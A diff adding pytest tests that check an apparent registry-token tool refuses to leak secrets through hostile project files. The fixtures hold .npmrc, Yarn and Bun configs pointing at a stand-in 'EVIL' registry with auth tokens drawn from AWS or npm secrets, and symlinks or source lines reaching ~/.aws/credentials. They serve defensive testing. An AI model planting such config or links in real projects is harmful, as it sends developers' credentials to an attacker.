@@ -529,3 +529,111 @@ def test_new_login_is_not_sent_where_a_project_wants_it(place: Field, attack: At
     is_sent = "proxy" in str(attack.project)
     assert run.failed is not is_sent
     assert bool(place.company.requests) is is_sent
+
+
+CREDENTIALS = "[default]\naws_secret_access_key=SECRET_OF_OTHERS\n"
+AWS = ".aws/credentials"
+ASKS = "registry=EVIL\nEVIL_KEY:_authToken=${aws_secret_access_key}\n"
+#: The project's files, and its links, that lead out of it to a file of the home.
+LINKS_TO_VARIABLES = {
+    ".env": ({".npmrc": ASKS}, {".env": f"../{AWS}"}),
+    ".env.local": ({".npmrc": ASKS}, {".env.local": f"../{AWS}"}),
+    ".envrc": ({".npmrc": ASKS}, {".envrc": f"../{AWS}"}),
+    ".npmrc.env": ({".npmrc": ASKS}, {".npmrc.env": f"../{AWS}"}),
+    "a link by a link": ({".npmrc": ASKS}, {".env": "x", "x": f"../{AWS}"}),
+    "a link by a directory": ({".npmrc": ASKS}, {".env": "x/credentials", "x": "../.aws"}),
+    "a link by the directory above": ({".npmrc": ASKS}, {".env": f"x/{AWS}", "x": ".."}),
+    "a subdirectory": ({"sub/.npmrc": ASKS}, {"sub/.env": f"../../{AWS}"}),
+    "a file that reads it": ({".npmrc": ASKS, ".envrc": f"source ~/{AWS}\n. ../{AWS}\n"}, {}),
+    "an .env file that reads it": ({".npmrc": ASKS, ".env": f"source ~/{AWS}\n"}, {}),
+    "Yarn": (
+        {".yarnrc.yml": 'npmRegistryServer: "EVIL"\nnpmAuthToken: "${aws_secret_access_key}"\n'},
+        {".env": f"../{AWS}"},
+    ),
+    "Bun": (
+        {"bunfig.toml": '[install]\nregistry = { url = "EVIL", token = "$aws_secret_access_key" }\n'},
+        {".env": f"../{AWS}"},
+    ),
+}
+
+
+def plant_links(place: Field, files: Mapping[str, str], links: Mapping[str, str], home: Mapping[str, str]) -> None:
+    home = {name: text.replace("SECRET_OF_OTHERS", place.secret) for name, text in home.items()}
+    place.plant(Attack(files, "", home))
+    for name, target in links.items():
+        (place.project / name).symlink_to(target)
+
+
+@pytest.mark.parametrize("case", LINKS_TO_VARIABLES)
+@pytest.mark.parametrize("revoke", ["confirmed", "attempted"])
+def test_project_links_to_the_variables_of_others(place: Field, case: str, revoke: str) -> None:
+    files, links = LINKS_TO_VARIABLES[case]
+    plant_links(place, files, links, {AWS: CREDENTIALS})
+    run = place.run({**LOGOUT_OPTIONS, "revoke": revoke})
+    info = place.run(INFO_OPTIONS, INFO)
+    place.check_evil_saw_nothing()
+    assert run.outcomes == ["unresolved"]
+    assert [item["fingerprint"] for item in info.result["credentials"]] in ([None], [])
+    assert (place.home / AWS).read_text() == CREDENTIALS.replace("SECRET_OF_OTHERS", place.secret)
+
+
+@pytest.mark.parametrize("target", ["../.bashrc", "../other/.env"])
+def test_project_links_to_a_token_of_others(place: Field, target: str) -> None:
+    """The token by npm's own name is neither the project's to send, nor is the file to be edited by the link."""
+    text = "export npm_token=SECRET_OF_OTHERS\n"
+    files = {".npmrc": "registry=EVIL\nEVIL_KEY:_authToken=${npm_token}\n"}
+    plant_links(place, files, {".env": target}, {target.replace("../", ""): text})
+    options = {**LOGOUT_OPTIONS, "revoke": "attempted", "exclude": ["other"]}
+    run = place.run({**options, "clients": ["environment"], "levels": ["project"]})
+    assert (run.outcomes, run.result["changed"]) == ([], False)
+    run = place.run({**options, "levels": ["project"]})
+    place.check_evil_saw_nothing()
+    assert run.outcomes == ["unresolved"]
+    assert (place.home / target.replace("../", "")).read_text() == text.replace("SECRET_OF_OTHERS", place.secret)
+
+
+def test_new_login_is_not_written_through_a_link_of_a_project(place: Field) -> None:
+    place.company.create_token("alice", place.token)
+    text = "export npm_token=SECRET_OF_OTHERS\n"
+    files = {".npmrc": "registry=COMPANY\nCOMPANY_KEY:_authToken=${npm_token}\n"}
+    plant_links(place, files, {".env": "../secrets"}, {".npmrc": "registry=COMPANY\n", "secrets": text})
+    options = {"token": place.token, "paths": [str(place.project / ".npmrc")], "timeout": 2, "retries": 0}
+    run = place.run(options, LOGIN)
+    assert run.failed
+    assert "leads out of its project" in run.msg
+    assert (place.home / "secrets").read_text() == text.replace("SECRET_OF_OTHERS", place.secret)
+
+
+#: The project's link, the file of the home that it leads to, and what the project says of registries.
+LINKS_TO_TOKENS = {
+    "npm": (".npmrc", ".npmrc", "_authToken=TOKEN\n", {".yarnrc": 'registry "EVIL"\n'}),
+    "npm, a package": (".npmrc", ".npmrc", "_authToken=TOKEN\n", RESOLVED["the registry of the package"]),
+    "npm, another file": (".npmrc", "mine", "_authToken=TOKEN\n", RESOLVED["the registry of the package"]),
+    "pnpm": (".npmrc", ".config/pnpm/rc", "_authToken=TOKEN\n", RESOLVED["the registry of the package"]),
+    "Yarn": (
+        ".yarnrc.yml",
+        ".yarnrc.yml",
+        'npmAuthToken: "TOKEN"\n',
+        RESOLVED["the registry of the package"],
+    ),
+    "Bun": (
+        "bunfig.toml",
+        ".bunfig.toml",
+        '[install.scopes]\nx = { token = "TOKEN" }\n',
+        {".npmrc": "registry=EVIL\n@x:registry=EVIL\n"},
+    ),
+}
+
+
+@pytest.mark.parametrize("case", LINKS_TO_TOKENS)
+@pytest.mark.parametrize("selected", ["search", "paths"])
+def test_project_links_to_a_file_with_a_token(place: Field, case: str, selected: str) -> None:
+    """What the project says of registries beside its link has no say in a token that is not its own."""
+    name, target, text, files = LINKS_TO_TOKENS[case]
+    plant_links(place, files, {name: f"../{target}"}, {target: text})
+    chosen: dict[str, Any] = {"levels": ["project"]}
+    if selected == "paths":
+        chosen = {"paths": [str(place.project / name)], "levels": ["user"]}
+    place.run({**LOGOUT_OPTIONS, **chosen, "revoke": "attempted"})
+    place.run({**INFO_OPTIONS, **chosen}, INFO)
+    place.check_evil_saw_nothing()
